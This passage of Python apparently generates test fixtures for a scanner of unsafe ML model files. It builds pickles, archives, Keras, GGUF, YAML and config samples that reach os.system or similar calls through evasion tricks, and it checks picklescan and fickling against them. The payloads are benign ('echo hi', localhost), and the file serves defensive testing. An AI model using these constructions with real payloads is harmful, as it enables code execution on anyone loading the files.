def program(expression, target="torch.ops.aten.relu.default", more=""):
    """A program with an expression, a target, and JSON that follows the expression."""
    size = {"as_expr": {"expr_str": expression, "hint": {"as_int": 4}}}
    node = {"target": target, "inputs": [], "outputs": [], "metadata": {}}
    graph = {"nodes": [node], "tensor_values": {"x": {"dtype": 7, "sizes": [size]}}}
    text = json.dumps({"graph_module": {"graph": graph}, "schema_version": {"major": 8, "minor": 8}}).encode()
    if more:
        text = text.replace(b', "hint"', b", " + more.encode() + b', "hint"')
    return archive(("m/archive_format", b"pt2"), ("m/models/model.json", text), compression=zipfile.ZIP_DEFLATED)


@case("program_expression.pt2", "an expression that SymPy evaluates when the program is loaded", "dangerous")
def _():
    return program("__import__('os').system('echo hi')")


@case("program_letters.pt2", "the same without a quote or a point", "dangerous")
def _():
    return program("eval (chr(49)+chr(43)+chr(49))")


@case("program_function.pt2", "an expression with a function that is not known", "review")
def _():
    return program("Symbol('s0') + zoo_of(2)")


@case("program_twice.pt2", "a field that is there twice: Python takes the last, whose name is spelled with an escape",
      "dangerous")
def _():
    return program("2*s0", more='"expr\\u005fstr": "eval(1)"')


@case("program_surrogate.pt2", "a program whose JSON only Python reads: half a surrogate pair", "review")
def _():
    return program("2*s0", more='"a": "\\ud800"')


@case("program_long_target.pt2", "a node that calls what is longer than any name", "review")
def _():
    return program("2*s0", "torch." + "a." * 3000 + "b")


@case("program_plain.pt2", "nothing: expressions as PyTorch writes them", "clean")
def _():
    return program("Mul(Integer(20), Max(Integer(1), Symbol('u0', positive=True, integer=True)), Float('1.5'))")


@case("program_target.pt2", "a node that calls os.system by way of torch", "dangerous")
def _():
    return program("2*s0", "torch.serialization.os.system")


@case("native.pt2", "a library, which torch.export.load loads", "review")
def _():
    return archive(("m/archive_format", b"pt2"), ("m/data/aotinductor/model/model.so", b"\x7fELF"))


def package(*entries):
    """What torch.package writes."""
    return archive(
        ("m/.data/extern_modules", b"os\n"), ("m/.data/version", b"6\n"), ("m/version", b"3\n"), *entries)


@case("package.pt", "Python code that torch.package's importer runs", "review", loader="package")
def _():
    return package(("m/collections.py", b"print('hi')\nOrderedDict = dict\n"),
                   ("m/model/model.pkl", b"\x80\x02ccollections\nOrderedDict\n)R."))


@case("package_constants.pt", "the same with a file of TorchScript's, and a class by TorchScript's name", "review",
      loader="package")
def _():
    return package(("m/__torch__.py", b"print('hi')\nclass M:\n    pass\n"), ("m/constants.pkl", b"\x80\x02)."),
                   ("m/model/model.pkl", b"\x80\x02c__torch__\nM\n)\x81."))


@case("package_extern.pt", "a call of a module that the package takes from outside", "dangerous", "os.system",
      loader="package")
def _():
    return package(("m/constants.pkl", b"\x80\x02)."), ("m/model/model.pkl", b"\x80\x02" + CLASSIC))


@case("handler.mar", "Python code that TorchServe imports", "review", where="handler.py")
def _():
    return archive(("MAR-INF/MANIFEST.json", b'{"model": {"handler": "handler.py"}}'), ("handler.py", b"print('hi')\n"))


@case("package_plain.pt", "nothing: a package of values", "clean", loader="package")
def _():
    return package(("m/model/model.pkl", HARMLESS))


@case("two_packed.npz", "an array of objects after an entry that takes all that may be unpacked", "dangerous",
      "os.system")
def _():
    return archive(("a.pkl", HARMLESS), ("x.npy", npy("|O", SYSTEM)), compression=zipfile.ZIP_DEFLATED)


# Files of two formats, and formats of which little is known


@case("length_is_opcodes.bin", "a pickle whose first opcodes are the length of a safetensors header", "dangerous",
      "os.system", loader="pickle")
def _():
    return b"U\x07" + bytes(6) + (b"{0" + CLASSIC).ljust(0x0755)


@case("odd_name.bin", "a name that only torch.ops has, before the call", "dangerous", "os.system", loader="pickle")
def _():
    return b"ctorch.ops\nx y\n0" + CLASSIC


def header_of_tar(data, name, prefix=b""):
    """The archive with another name of its first file."""
    made = bytearray(data)
    made[0:100] = name.ljust(100, b"\0")[:100]
    made[345:345 + len(prefix)] = prefix
    made[148:156] = b" " * 8
    made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


# Two headers, one block of data and the end.
TAR = tar(("a", b""), ("m.pkl", CLASSIC))[:2560]


@case("pointer.tar", "a tar archive whose first name is the beginning of a Git LFS pointer", "dangerous", "os.system",
      loader="tar")
def _():
    return header_of_tar(TAR, b"version https://git-lfs.github.com/spec/v1")


@case("array.tar", "a tar archive whose first name is the header of a NumPy array", "dangerous", "os.system", loader="tar")
def _():
    header = b"{'descr':'|u1','fortran_order':False,'shape':(%d,)}" % (len(TAR) - 90)
    return header_of_tar(TAR, b"\x93NUMPY\x01\0\x50\0" + header.ljust(80))


@case("hdf5.tar", "a tar archive whose first name is HDF5's signature", "dangerous", "os.system", loader="tar")
def _():
    return header_of_tar(TAR, b"\x89HDF\r\n\x1a\n")


@case("no_name.tar", "a tar archive whose first file has a name in the prefix only", "dangerous", "os.system", loader="tar")
def _():
    return header_of_tar(TAR, b"", b"a")


@case("numbers.tar", "a tar archive whose numbers are spelled as only Python's int() reads them", "dangerous", "os.system",
      loader="tar")
def _():
    made = bytearray(TAR)
    made[148:156] = b"0o%05o\0" % sum(made[:148] + b" " * 8 + made[156:512])
    return bytes(made)


@case("kind.tar", "a tar archive with a file of a kind that Python does not know and takes for a plain one", "dangerous",
      "os.system", loader="tar")
def _():
    made = bytearray(TAR)
    made[512 + 156] = ord("Z")
    made[512 + 148:512 + 156] = b" " * 8
    made[512 + 148:512 + 156] = b"%06o\0 " % sum(made[512:1024])
    return bytes(made)


@case("zip_and_tar.nemo", "a zip archive that is a tar archive, too: its only record covers that", "dangerous", "os.system",
      loader="tar")
def _():
    made = bytearray(archive(("x" * 60, bytes(len(TAR) - 90))))
    made[100:len(TAR)] = TAR[100:]
    for place in 14, made.index(b"PK\x01\x02", len(TAR)) + 16:
        struct.pack_into("<I", made, place, 0)
    return header_of_tar(made, bytes(made[:100]))


@case("old_joblib.z", "zlib's data after a size, as old versions of joblib wrote them", "dangerous", "os.system",
      loader="joblib")
def _():
    return b"ZF" + hex(len(SYSTEM)).encode().ljust(19) + zlib.compress(SYSTEM)


@case("padded_streams.pkl.gz", "a pickle in the second gzip stream, after zeros", "dangerous", "os.system",
      loader="gzip")
def _():
    return gzip.compress(P4 + b"N0", mtime=0) + bytes(16) + gzip.compress(SYSTEM[2:], mtime=0)


@case("lambda_escaped.keras", "Python code in a Keras model's description, the layer's name with an escape", "review",
      where="config.json")
def _():
    return archive(("config.json", b'{"class_name": "L\\u0061mbda", "config": {}}'))


@case("lambda_block.h5", "Python code in a Keras model's description, in HDF5 after a block of the user's", "review")
def _():
    return bytes(1024) + b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda", "config": {}}'


# Bytes that are computed


def loaded_bytes(*opcodes):
    return P4 + call_of("torch.storage", "_load_from_bytes", *opcodes) + b"."


# A legacy stream, of an even size.
STREAM = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})) + SYSTEM
STREAM += bytes(len(STREAM) % 2)


def long_text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def long_bytes(data):
    return b"B" + struct.pack("<I", len(data)) + data


@case("nested_codec.pkl", "a pickle in the bytes that a text is in another encoding", "dangerous",
      "torch.storage._load_from_bytes", loader="pickle")
def _():
    return loaded_bytes(call_of("_codecs", "encode", long_text(STREAM.decode("cp437")), text("cp437")))


@case("nested_bytes_codec.pkl", "the same by bytes()", "dangerous", "torch.storage._load_from_bytes", loader="pickle")
def _():
    return loaded_bytes(call_of("builtins", "bytes", long_text(STREAM.decode("cp437")), text("cp437")))


@case("nested_dash.pkl", "a pickle in base64 with a sign that Python passes over", "dangerous", loader="pickle")
def _():
    return loaded_bytes(call_of("base64", "b64decode", long_bytes(b"-" + base64.b64encode(STREAM))))


@case("nested_digits.pkl", "a pickle in base64 with other digits", "dangerous", "torch.storage._load_from_bytes",
      loader="pickle")
def _():
    return loaded_bytes(call_of("base64", "b64decode", long_bytes(base64.b64encode(STREAM, b"-_")), long_bytes(b"-_")))


@case("nested_appended.pkl", "a pickle in bytes that grow after they are made", "dangerous",
      "torch.storage._load_from_bytes", loader="pickle")
def _():
    items = b"".join(b"K" + bytes([byte]) for byte in STREAM[2:])
    return loaded_bytes(call_of("builtins", "bytearray", long_bytes(STREAM[:2])) + b"(" + items + b"e")


# What harmless functions call


@case("private_method.pkl", "a method for its own class that runs the file that it is given, called by a parameter's making",
      "review", "mmengine.config.config.Config._parse_lazy_import", loader="config")
def _():
    namespace = stack_global("argparse", "Namespace")
    method = stack_global("mmengine.config.config", "Config._parse_lazy_import")
    keywords = b"}" + text("requires_grad_") + method + b"s"
    bound = call_of("functools", "partial", namespace) + b"(" + namespace + b")" + keywords + b"Ntb"
    tensor = namespace + b")\x81}" + text("detach") + bound + b"sb"
    return P4 + call_of("torch._utils", "_rebuild_parameter", tensor, text("/dev/stdin"), HOOKS) + b"."


@case("filled_modules.pkl", "modules in an object whose values() is a function, which list() calls", "review")
def _():
    values = stack_global("argparse", "Namespace") + b")\x81}" + text("values") + stack_global("builtins", "dict") + b"sb"
    module = stack_global("torch.nn.modules.container", "Sequential") + b")\x81}" + text("_modules") + values + b"sb"
    return P4 + call_of("builtins", "list", module) + b"."


@case("changed_type.pkl", "BUILD on the type of an object: its attributes change for the whole process", "dangerous",
      "builtins.type", loader="logger")
def _():
    made = stack_global("argparse", "Namespace") + b")\x81"
    return P4 + call_of("builtins", "type", made) + b"N}" + text("__eq__") + stack_global("builtins", "dict") + b"s\x86b."


@case("changed_logger.pkl", "BUILD on the root logger, which the whole process shares", "dangerous", "logging.getLogger",
      loader="logger")
def _():
    return P4 + call_of("logging", "getLogger") + b"}" + text("warning") + stack_global("builtins", "dict") + b"sb."


def array(dtype):
    """An array of one element of 8 bytes."""
    made = call_of("numpy._core.multiarray", "_reconstruct", stack_global("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    return P4 + made + b"(K\x01K\x01\x85" + dtype + b"\x89C\x08AAAAAAAAtb."


def structure(field, offset, flags):
    state = b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + field
    state += b"J" + struct.pack("<i", offset) + b"\x86sK\x08K\x01K" + bytes([flags]) + b"tb"
    return stack_global("numpy", "dtype") + b"(" + text("V8") + b"\x89\x88tR" + state


@case("array_of_addresses.pkl", "an array of objects whose type says that it has none: NumPy takes bytes for addresses",
      "dangerous", "numpy.dtype", loader="array_type")
def _():
    return array(numpy_type("O8", -1))


@case("field_of_addresses.pkl", "the same in a field of a structure", "dangerous", "numpy.dtype", loader="array_type")
def _():
    return array(structure(call_of("numpy", "dtype", text("O8")), 0, 0))


@case("field_outside.pkl", "a field that begins a gigabyte after its element", "dangerous", "numpy.dtype",
      loader="array_type")
def _():
    return array(structure(call_of("numpy", "dtype", text("f8")), 1 << 30, 16))


@case("array_over_bytes.pkl", "an array of objects over bytes of the file, by a call of numpy.ndarray", "dangerous",
      "numpy.ndarray", loader="array_type")
def _():
    return P4 + call_of("numpy", "ndarray", b"K\x01\x85", text("O"), b"C\x08AAAAAAAA") + b"."


@case("field_plain.pkl", "nothing: an array of structures as NumPy pickles it", "clean", loader="array_type")
def _():
    return array(structure(numpy_type("f4", -1), 4, 16))


CALLBACK = stack_global("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint")
PLACE = text("ftp://127.0.0.1:9/a")


def address(count=1):
    """NumPy's protocol for arrays of other packages: eight bytes at 0x1234."""
    data = b"M\x34\x12\x89\x86"
    return (b"}(" + text("data") + data + text("shape") + b"K" + bytes([count]) + b"\x85" + text("typestr") + text("<f8")
            + text("version") + b"K\x03u")


@case("array_interface.pkl", "an object whose attribute says where an array lies: NumPy takes any address", "dangerous",
      loader="places")
def _():
    holder = stack_global("argparse", "Namespace") + b")\x81}" + text("__array_interface__") + address() + b"sb"
    return P4 + call_of("numpy.ma.core", "MaskedArray", holder) + b"."


@case("array_interface_item.pkl", "the same in an item of a dictionary whose items are attributes, too", "dangerous",
      loader="places")
def _():
    holder = stack_global("yacs.config", "CfgNode") + b")R" + text("__array_interface__") + address() + b"s"
    return P4 + call_of("numpy.ma.core", "MaskedArray", holder) + b"."


@case("called_item.pkl", "a __setstate__ in the dictionary that an object is made from, which the next BUILD calls", "dangerous",
      loader="callback")
def _():
    made = stack_global("easydict", "EasyDict") + b"}" + text("__setstate__") + CALLBACK + b"s\x85R"
    return P4 + made + PLACE + b"b."


@case("called_append.pkl", "an append among the items of an object, which the next APPEND calls", "dangerous", loader="callback")
def _():
    return P4 + stack_global("easydict", "EasyDict") + b")R" + text("append") + CALLBACK + b"s" + PLACE + b"a."


@case("computed_attribute.pkl", "an attribute that the next BUILD calls, its name made of bytes by a call", "review",
      loader="callback")
def _():
    name = call_of("builtins", "str", b"C\x0c__setstate__", text("ascii"))
    return P4 + stack_global("argparse", "Namespace") + b")\x81}" + name + CALLBACK + b"sb" + PLACE + b"b."


@case("computed_text.pkl", "the same with a text of NumPy's", "review", loader="callback")
def _():
    name = call_of("numpy._core.multiarray", "scalar", numpy_type("U12", 48), b"C\x30" + "__setstate__".encode("utf-32-le"))
    return P4 + stack_global("argparse", "Namespace") + b")\x81}" + name + CALLBACK + b"sb" + PLACE + b"b."


@case("map.pkl", "an instance of map, which calls its function when list takes its items", "review", "builtins.map",
      loader="callback")
def _():
    return P4 + call_of("builtins", "list", stack_global("builtins", "map") + b"(" + CALLBACK + b"]" + PLACE + b"at\x81") + b"."


@case("module_attribute.pkl", "a function of a module that is an attribute of a harmless class since Python 3.13", "dangerous",
      "builtins.getattr")
def _():
    def attribute(owner, name):
        return call_of("builtins", "getattr", owner, text(name))
    module = attribute(attribute(stack_global("pathlib", "PosixPath"), "parser"), "os")
    return P4 + call_of("functools", "partial", attribute(module, "execlp"), text("sh")) + b"."


@case("instantiator.ckpt", "a function in the hyperparameters that Lightning calls in place of the model's constructor", "review")
def _():
    parameters = {"_instantiator": "builtins.print", "a": "says hi to"}
    checkpoint = {"state_dict": {}, "hyper_parameters": parameters, "pytorch-lightning_version": "2.6.0"}
    return archive(("archive/data.pkl", pickle.dumps(checkpoint, 2)), ("archive/version", b"3\n"))


@case("attributes_plain.pkl", "nothing: dictionaries with such names as picklers write them", "clean", loader="pickle")
def _():
    items = b"(" + text("append") + stack_global("builtins", "len") + text("a") + b"K\x01u"
    made = stack_global("easydict", "EasyDict") + b")R" + items + stack_global("argparse", "Namespace") + b")\x81}"
    return P4 + made + text("__doc__") + text("a") + b"sb\x86."


def guarded_program(guard):
    text = json.dumps({"graph_module": {}, "guards_code": [guard]}).encode()
    return archive(("m/archive_format", b"pt2"), ("m/models/model.json", text), compression=zipfile.ZIP_DEFLATED)


@case("program_guard.pt2", "a guard, which PyTorch runs as Python when the program's module is called", "dangerous")
def _():
    return guarded_program("__import__('os').system('echo hi') or True")


@case("program_guard_name.pt2", "a guard with a name that is not known", "review")
def _():
    return guarded_program("torch.zeros(3).size()[0] > 1")


@case("program_guard_plain.pt2", "nothing: a guard as PyTorch writes it", "clean")
def _():
    return guarded_program("L['x'].size()[0] > 3 and L['y z'] == 'a(b)'")


# Descriptions that name code


@case("checkpoint_place.pkl", "a constructor that connects to the place that it is given, by fsspec", "dangerous",
      "pytorch_lightning.callbacks.model_checkpoint.ModelCheckpoint")
def _():
    return P4 + call("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint", "ftp://127.0.0.1:9/a") + b"."


def nemo(config):
    return tar(("model_config.yaml", config.encode()))


@case("target.nemo", "a config whose _target_ NeMo calls, as Hydra does", "dangerous", where="model_config.yaml", loader="hydra")
def _():
    return nemo("encoder:\n  _target_: logging.FileHandler\n  filename: hostile\n")


@case("target_name.nemo", "the same with a class that is not known", "review", where="model_config.yaml")
def _():
    return nemo("encoder: {_target_: my_models.Encoder}\n")


@case("target_escaped.nemo", "the same with a key that is spelled by an escape", "review", where="model_config.yaml", loader="hydra")
def _():
    return nemo('encoder:\n  "_t\\x61rget_": logging.FileHandler\n  filename: hostile\n')


@case("target_plain.nemo", "nothing: a config that names classes of NeMo", "clean")
def _():
    return nemo("target: nemo.collections.asr.models.ctc_models.EncDecCTCModel\nencoder:\n"
                "  _target_: nemo.collections.asr.modules.ConformerEncoder\n  d_model: 4\nlabels: [' ', \"\\u2581\"]\n")


@case("tag.yaml", "a tag by which PyYAML calls a function", "dangerous", loader="yaml")
def _():
    return b'!!python/object/apply:os.system ["echo hi"]\n'


@case("tag_plain.yaml", "nothing: tags of plain data, as Lightning writes them", "clean", loader="yaml")
def _():
    return b"args: !!python/object:argparse.Namespace\n  lr: 0.1\nsize: !!python/tuple [1, 2]\ntarget: test.csv\n"


@case("auto_map.json", "a config that has transformers run a Python file of its folder", "review")
def _():
    return b'{"model_type": "a", "auto_map": {"AutoModel": "modeling_a.Model"}}'


@case("function.keras", "a function that Keras imports by a module's name", "dangerous", where="config.json")
def _():
    return archive(("config.json", b'{"module": "os", "class_name": "function", "config": "system"}'))


@case("download.keras", "a function of Keras that downloads and unpacks", "dangerous", where="config.json")
def _():
    return archive(("config.json", b'{"module": "keras.utils", "class_name": "function", "config": "get_file"}'))


@case("torch_module.keras", "a module of PyTorch in Keras's config, which torch.load reads", "dangerous", "os.system",
      where="config.json > module > archive/data.pkl")
def _():
    module = base64.b64encode(archive(("archive/data.pkl", SYSTEM))).decode()
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "a", "module": module}}
    return archive(("config.json", json.dumps(layer).encode()))


@case("plain.keras", "nothing: a layer as Keras describes it", "clean")
def _():
    return archive(("config.json", b'{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}'))


def gguf(template):
    def pair(name, value):
        return struct.pack("<Q", len(name)) + name + struct.pack("<IQ", 8, len(value)) + value
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + pair(b"general.name", b"a") + pair(
        b"tokenizer.chat_template", template.encode())


@case("template.gguf", "a chat template that reaches Python's modules", "dangerous", loader="template")
def _():
    return gguf("{{ cycler.__init__.__globals__.os.system('echo hi') }}")


@case("template_escaped.gguf", "the same by attributes whose names are spelled by escapes", "review", loader="template")
def _():
    return gguf("{{ ((cycler|attr('\\x5f\\x5finit\\x5f\\x5f'))|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].system('echo hi') }}")


@case("template_plain.gguf", "nothing: a chat template", "clean", loader="template")
def _():
    return gguf("{% for message in messages %}<|{{ message['role'] }}|>\n{{ message.content | trim }}{% endfor %}")


@case("outside.onnx", "a tensor in a file outside of the model's folder", "review")
def _():
    place = b"../../etc/passwd"
    entry = b"\x0a\x08location\x12" + bytes([len(place)]) + place
    tensor = b"\x08\x01\x10\x01\x42\x01w\x6a" + bytes([len(entry)]) + entry + b"\x70\x01"
    graph = b"\x2a" + bytes([len(tensor)]) + tensor
    return b"\x08\x08\x3a" + bytes([len(graph)]) + graph


@case("write_file.pb", "an operation of a TensorFlow graph that writes a file", "review")
def _():
    node = b"\x0a\x01a\x12\x09WriteFile"
    return b"\x0a" + bytes([len(node)]) + node


def hdf5(content):
    return b"\x89HDF\r\n\x1a\n" + bytes(88) + content + bytes(32)


@case("attribute.h5", "a pickle in an attribute of an HDF5 file", "dangerous", "os.system")
def _():
    return hdf5(SYSTEM)


@case("text_attribute.h5", "a pickle of protocol 0, as PyTables writes attributes", "dangerous")
def _():
    return hdf5(CLASSIC)


@case("chunk.h5", "a pickle in a packed chunk of an HDF5 file", "dangerous", "os.system")
def _():
    return hdf5(zlib.compress(SYSTEM, 4))


@case("function.h5", "a function that Keras imports by a module's name, in the description of a model in HDF5", "dangerous")
def _():
    activation = {"module": "os", "class_name": "function", "config": "system"}
    layer = {"module": "keras.layers", "class_name": "Activation", "config": {"activation": activation}}
    return hdf5(json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}).encode())


@case("tag_escaped.yaml", "a tag by which PyYAML calls a function, a letter of it spelled by an escape", "review", loader="yaml")
def _():
    return b'!!pytho%6E/object/apply:os.system ["echo hi"]\n'


@case("loader_module.zip", "a module that MLflow imports", "dangerous", where="model/MLmodel")
def _():
    return archive(("model/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n"))


@case("function.skops", "a function in a description of skops", "dangerous", where="schema.json")
def _():
    content = {"module_path": "os", "function": "system"}
    node = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": content}
    return archive(("schema.json", json.dumps(node).encode()))


@case("policy.zip", "a pickle in base64 in the data of a policy, as Stable Baselines writes objects", "dangerous", "os.system",
      where="data > serialized")
def _():
    policy = {":type:": "<class 'a'>", ":serialized:": base64.b64encode(SYSTEM).decode()}
    return archive(("data", json.dumps({"policy_class": policy}).encode()))


@case("reference.json", "a function that Fiddle imports and calls, as in a model of NeMo 2", "dangerous")
def _():
    function = {"type": "pyref", "module": "os", "name": "system"}
    return json.dumps({"root": {"items": [], "metadata": {"fn_or_cls": function}}}).encode()


@case("reduce.json", "a function that jsonpickle calls", "dangerous")
def _():
    return json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo hi"]}]}).encode()


@case("pipeline.zip", "a component of a pipeline of Diffusers that is a function", "dangerous", where="model_index.json")
def _():
    return archive(("model_index.json", json.dumps({"_class_name": "A", "unet": ["os", "system"]}).encode()))


@case("adapter.json", "a module that PEFT imports", "dangerous")
def _():
    return json.dumps({"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}).encode()


@case("chat_template.jinja", "a chat template without messages that reaches Python's modules", "dangerous")
def _():
    return b"{{ cycler.__init__.__globals__.os.system('echo hi') }}"


@case("write_file.pt", "TorchScript that writes a file by torchvision's operator", "review")
def _():
    return script('ops.image.write_file("hostile", torch.ones([1], dtype=0))')


@case("descriptions_plain.zip", "nothing: descriptions as MLflow, skops, Stable Baselines, Fiddle, Diffusers and PEFT write them", "clean")
def _():
    flavor = b"flavors:\n  python_function:\n    code: null\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
    scaler = {"__class__": "StandardScaler", "__module__": "sklearn.preprocessing._data", "__loader__": "ObjectNode"}
    function = {"type": "pyref", "module": "nemo.lightning.io.mixin", "name": "IOMixin"}
    components = {"_class_name": "DDPMPipeline", "unet": ["diffusers", "UNet2DModel"], "safety_checker": [None, None]}
    mapping = {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}
    return archive(
        ("m/MLmodel", flavor), ("schema.json", json.dumps(scaler).encode()),
        ("data", json.dumps({"n_steps": 5, "device": {":type:": "a", ":serialized:": base64.b64encode(HARMLESS).decode()}}).encode()),
        ("context/io.json", json.dumps({"root": {"fn_or_cls": function}}).encode()),
        ("model_index.json", json.dumps(components).encode()),
        ("adapter_config.json", json.dumps({"auto_mapping": mapping, "megatron_core": "megatron.core"}).encode()))


OTHERS = r"""
import contextlib, io, json, logging, sys
logging.disable(logging.CRITICAL)
from picklescan.scanner import scan_file_path
import fickling.fickle
from fickling.analysis import check_safety
result = {}
for path in sys.argv[1:]:
    try:
        scan = scan_file_path(path)
        safety = {"dangerous": 2, "suspicious": 1, "innocuous": 0}
        worst = max((safety[g.safety.value] for g in scan.globals), default=0)
        first = ["nothing", "suspicious", "dangerous"][worst]
    except Exception as error:
        first = "error: " + type(error).__name__
    try:
        with contextlib.redirect_stderr(io.StringIO()), open(path, "rb") as file:
            stacked = fickling.fickle.StackedPickle.load(file)
            second = max((check_safety(p).severity for p in stacked), key=lambda s: s.value).name.lower()
    except Exception as error:
        second = "error: " + type(error).__name__
    result[path] = [first, second]
print(json.dumps(result))
"""


def ask_others(python, paths):
    output = subprocess.run([python, "-c", OTHERS, *map(str, paths)], capture_output=True, text=True, check=True)
    return json.loads(output.stdout.splitlines()[-1])


PROOF = """
import sys
path = sys.argv[1]
try:
    %s
except Exception as error:
    print(type(error).__name__, error, file=sys.stderr)
"""


def prove(python, paths):
    """Loads what has a loader; returns the names of the files that do not what their verdict says."""
    wrong = []
    for name, verdict in paths.items():
        with tempfile.TemporaryDirectory() as folder:
            command = [python, "-W", "ignore", "-c", PROOF % PROVABLE[name.name], str(name.resolve())]
            run = subprocess.run(command, capture_output=True, text=True, cwd=folder)
            acts = "hi" in run.stdout.split() or any(pathlib.Path(folder).iterdir())
        print(f"{name.name}: {'acts' if acts else 'does nothing'}; {verdict} {run.stderr.strip()[:100]}")
        if acts != (verdict != "clean"):
            wrong.append(name.name)
    return wrong


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=pathlib.Path, default=ROOT / "fixtures/hostile/scan")
    parser.add_argument("--scanners", metavar="PYTHON")
    parser.add_argument("--prove", metavar="PYTHON")
    parser.add_argument("--table", action="store_true")
    options = parser.parse_args()
    options.out.mkdir(parents=True, exist_ok=True)
    known = options.out / "facts.json"
    others = {fact["file"]: fact for fact in json.loads(known.read_text())} if known.exists() else {}
    facts = []
    for name, attacks, verdict, names, where, make in CASES:
        (options.out / name).write_bytes(make())
        fact = {"file": name, "attacks": attacks, "verdict": verdict, "globals": names}
        if where:
            fact["where"] = where
        for scanner in "picklescan", "fickling":
            if scanner in others.get(name, {}):
                fact[scanner] = others[name][scanner]
        facts.append(fact)
    if options.scanners:
        others = ask_others(options.scanners, [options.out / fact["file"] for fact in facts])
        for fact in facts:
            fact["picklescan"], fact["fickling"] = others[str(options.out / fact["file"])]
    if options.prove:
        wrong = prove(options.prove, {options.out / f["file"]: f["verdict"] for f in facts if f["file"] in PROVABLE})
        if wrong:
            raise SystemExit(f"not as expected: {', '.join(wrong)}")
    lines = ",\n".join("  " + json.dumps(fact) for fact in facts)
    (options.out / "facts.json").write_text(f"[\n{lines}\n]\n")
    if options.table:
        print("| file | attacks | bytes | sha256 |\n|---|---|---|---|")
        attacks = {fact["file"]: fact["attacks"] for fact in facts}
        for path in sorted(options.out.iterdir()):
            data = path.read_bytes()
            digest = hashlib.sha256(data).hexdigest()
            print(f"| `{path.name}` | {attacks.get(path.name, 'what is expected')} | {len(data):,} | `{digest}` |")


if __name__ == "__main__":
    main()
